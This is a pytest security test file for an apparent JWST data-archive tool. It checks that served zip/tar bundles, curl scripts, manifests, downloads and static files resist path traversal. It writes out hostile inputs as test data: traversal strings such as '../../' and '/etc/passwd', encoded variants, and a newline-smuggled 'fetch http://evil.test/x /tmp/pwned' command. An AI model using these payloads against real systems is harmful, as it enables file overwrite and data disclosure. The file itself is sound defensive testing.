"""Path traversal wherever a name becomes a path: bundles, scripts, manifests, downloads, statics.

A catalog is written here holding hostile product names and a hostile
observation id (``../../x``, absolute paths, backslashes, a drive colon,
newlines), as a catalog fed by a careless product table or a shared
PostgreSQL could. Served for real (``jwlink serve`` on loopback), nothing it
hands out may put a file outside the folder it is unpacked or run in: zip
and tar entries, curl script lines, manifest paths, ``jwlink download``
targets, DataLink access URLs. A hostile *server* is covered too: a manifest
naming ``../`` paths makes ``jwlink download`` stop before writing anything.
"""

from __future__ import annotations

import hashlib
import io
import json
import shlex
import subprocess
import sys
import tarfile
import threading
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path, PurePosixPath
from typing import Any

import httpx
import pytest
from api_archive import Archive, Server, running_server
from conftest import pg_schema

from jwlink.api.access import token_line
from jwlink.core.model import Batch, Level, Observation, Product, ProductType
from jwlink.download import safe_relative_path
from jwlink.store import open_store

OBS = "jw01234-o001_t001_nircam_clear-f200w"
EVIL_OBS = "../../jw01234-o002_t001_nircam_clear-f200w"
GOOD = f"{OBS}_i2d.fits"
HOSTILE = [
    "../../escaped_i2d.fits",
    "..",
    ".",
    "/tmp/absolute_i2d.fits",
    "a\\..\\..\\backslash_i2d.fits",
    "C:drive_i2d.fits",
    "sub/dir_i2d.fits",
    "line\nfetch http://evil.test/x /tmp/pwned 0 0\n_i2d.fits",
    "carriage\rreturn_i2d.fits",
    "tab\there_i2d.fits",
]


def _catalog(root: Path, db_url: str) -> Archive:
    data = root / "data"
    data.mkdir(parents=True)
    products = []
    for index, (name, obs) in enumerate(
        [(GOOD, OBS), *((n, OBS) for n in HOSTILE), (f"{OBS}_cal.fits", EVIL_OBS)]
    ):
        path = data / f"file{index}.fits"
        path.write_bytes(f"bytes of file {index}\n".encode() * 10)
        digest = hashlib.sha256(path.read_bytes()).hexdigest()
        products.append(
            Product(name, obs, Level.L3, ProductType.SCIENCE, "i2d", "fits", program="01234",
                    size=path.stat().st_size, sha256=digest, location=str(path))
        )  # fmt: skip
    observations = [
        Observation(o, 3, program="01234", is_association=True) for o in (OBS, EVIL_OBS)
    ]
    store = open_store(db_url)
    try:
        store.write(Batch("test:hostile", products=products, observations=observations))
    finally:
        store.close()
    tokens = root / "tokens.txt"
    tokens.write_text(token_line("unused-token", ["1"]) + "\n")
    return Archive(db_url, data, tokens, "hostile")


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def hostile(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Server]:
    root = tmp_path_factory.mktemp(f"hostile-{request.param}")
    if request.param == "sqlite":
        archive = _catalog(root, str(root / "catalog.db"))
        with running_server(archive, root) as server:
            yield server
        return
    with pg_schema() as url, running_server(_catalog(root, url), root) as server:
        yield server


def assert_safe_entry(name: str) -> None:
    """An archive entry or relative path that stays inside the folder it lands in."""
    path = PurePosixPath(name)
    assert name and not path.is_absolute(), name
    assert "\\" not in name and ":" not in name, name
    assert not any(part in ("", ".", "..") for part in path.parts), name
    assert all(c.isprintable() for c in name), repr(name)


SELECTIONS = [
    {"obs_id": [OBS, EVIL_OBS], "mrp": "false"},
    {"obs_id": [OBS, EVIL_OBS], "mrp": "false", "flat": "true"},
]


@pytest.mark.parametrize("params", SELECTIONS, ids=["folders", "flat"])
def test_bundles_hold_only_safe_entries(hostile: Server, params: dict[str, Any]) -> None:
    url = hostile.url + "/api/v1"
    zipped = io.BytesIO(httpx.get(f"{url}/bundle.zip", params=params).content)
    with zipfile.ZipFile(zipped) as z:
        names = z.namelist()
    tarred = io.BytesIO(httpx.get(f"{url}/bundle.tar", params=params).content)
    with tarfile.open(fileobj=tarred) as t:
        assert t.getnames() == names
    for name in names:
        assert_safe_entry(name)
    delivered = sorted(n.rsplit("/", 1)[-1] for n in names)
    assert delivered == sorted(["MANIFEST.csv", "SHA256SUMS", GOOD, f"{OBS}_cal.fits"])
    manifest = httpx.get(f"{url}/manifest.json", params=params).json()["files"]
    assert len(manifest) == len(HOSTILE) + 2
    for row in manifest:
        assert_safe_entry(row["path"])
        safe_relative_path(row["path"])  # what jwlink download accepts
        if row["name"] in HOSTILE:
            assert row["status"] == "BAD_NAME", row
    csv_text = httpx.get(f"{url}/manifest.csv", params=params).text
    assert csv_text.count("BAD_NAME") == len(HOSTILE)


def test_curl_script_writes_only_inside_its_folder(hostile: Server, tmp_path: Path) -> None:
    params = {"obs_id": [OBS, EVIL_OBS], "mrp": "false"}
    script = httpx.get(f"{hostile.url}/api/v1/bundle.sh", params=params).text
    lines = script.splitlines()
    assert sum(line.startswith("fetch ") for line in lines) == 2
    # A hostile name appears only in comments and, shell-quoted as one word, in
    # the left_out line that counts it: never as a command or a fetch argument.
    for line in lines:
        if "evil.test" in line and not line.startswith("#"):
            words = shlex.split(line)
            assert words[:2] == ["left_out", "BAD_NAME"] and len(words) == 4, line
    work = tmp_path / "sandbox" / "here"
    work.mkdir(parents=True)
    (work / "get.sh").write_text(script)
    done = subprocess.run(["sh", "get.sh"], cwd=work, capture_output=True, text=True, timeout=60)
    # the hostile names are left out, counted, and fail the run
    assert done.returncode == 1, done.stdout + done.stderr
    assert f"BAD_NAME           {len(HOSTILE)}" in done.stderr
    written = sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*") if p.is_file())
    assert written == sorted([
        "sandbox/here/get.sh",
        f"sandbox/here/JWST/{OBS}/{GOOD}",
        f"sandbox/here/JWST/.._.._jw01234-o002_t001_nircam_clear-f200w/{OBS}_cal.fits",
    ])  # fmt: skip
    assert not Path("/tmp/pwned").exists() and not Path("/tmp/absolute_i2d.fits").exists()


def test_jwlink_download_skips_hostile_names(hostile: Server, tmp_path: Path) -> None:
    dest = tmp_path / "box" / "dest"
    command = [sys.executable, "-m", "jwlink", "download", OBS, EVIL_OBS, "--no-mrp",
               "--server", hostile.url, "--dest", str(dest), "--json"]  # fmt: skip
    done = subprocess.run(command, capture_output=True, text=True, timeout=120)
    assert done.returncode == 1, done.stdout + done.stderr  # the hostile names are left out
    report = json.loads(done.stdout)
    assert report["counts"] == {"downloaded": 2, "skipped": len(HOSTILE)}
    assert report["left_out"] == {"BAD_NAME": len(HOSTILE)}
    outside = [p for p in tmp_path.rglob("*") if p.is_file() and dest not in p.parents]
    assert outside == []


class _HostileManifest(BaseHTTPRequestHandler):
    """A server whose manifest sends files out of the destination."""

    def do_GET(self) -> None:  # noqa: N802 - the http.server hook
        rows = [
            {"name": "ok.fits", "path": "ok.fits", "size": 2, "sha256": None},
            {"name": "evil.fits", "path": "../../evil.fits", "size": 2, "sha256": None},
        ]
        body = json.dumps({"count": 2, "size": 4, "files": rows}).encode()
        if not self.path.startswith("/api/v1/manifest.json"):
            body = b"xx"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


def test_jwlink_download_refuses_a_hostile_manifest(tmp_path: Path) -> None:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _HostileManifest)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        dest = tmp_path / "a" / "b" / "dest"
        url = f"http://127.0.0.1:{server.server_address[1]}"
        command = [sys.executable, "-m", "jwlink", "download", OBS, "--server", url,
                   "--dest", str(dest)]  # fmt: skip
        done = subprocess.run(command, capture_output=True, text=True, timeout=60)
    finally:
        server.shutdown()
        server.server_close()
    assert done.returncode != 0 and "Unsafe path" in done.stdout + done.stderr
    assert not (tmp_path / "a" / "evil.fits").exists()
    assert [p for p in tmp_path.rglob("*") if p.is_file()] == []  # nothing written at all


def test_datalink_gives_no_url_to_a_name_that_is_not_a_file(hostile: Server) -> None:
    from astropy.io.votable import parse_single_table

    ids = [GOOD, *HOSTILE[:2]]
    response = httpx.get(f"{hostile.url}/datalink/links", params={"ID": ids})
    table = parse_single_table(io.BytesIO(response.content)).to_table()
    urls = [str(u) for u in table["access_url"] if str(u) not in ("", "--")]
    assert urls and all("uri=mast:JWST/product/" in u for u in urls)
    for url in urls:
        got = httpx.get(url)
        assert got.status_code == 200 and got.content.startswith(b"bytes of file")
    assert all("Fault" in str(m) for m in table[table["ID"] != GOOD]["error_message"])


@pytest.mark.parametrize(
    "path",
    [
        "../app.py",
        "..%2f..%2fapi%2fapp.py",
        "%2e%2e/templates/base.html",
        "js/../../templates/base.html",
        "/etc/passwd",
        "..%5c..%5capi%5capp.py",
        "portal.css%00.js",
        "js/",
        "",
    ],
)
def test_portal_static_files_stay_in_their_folder(hostile: Server, path: str) -> None:
    response = httpx.get(f"{hostile.url}/static/{path}")
    assert response.status_code == 404, (path, response.status_code)
    assert b"root:" not in response.content and b"def create_app" not in response.content
